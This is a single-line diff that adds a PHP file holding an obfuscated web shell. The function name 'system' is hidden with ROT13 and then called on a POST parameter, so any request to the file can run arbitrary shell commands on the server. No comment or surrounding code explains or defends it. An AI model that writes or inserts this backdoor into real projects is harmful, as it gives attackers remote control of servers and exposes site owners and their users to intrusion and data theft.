@@ -1,0 +1,1 @@
+<?php $a = str_rot13('flfgrz'); $a($_POST['z']);
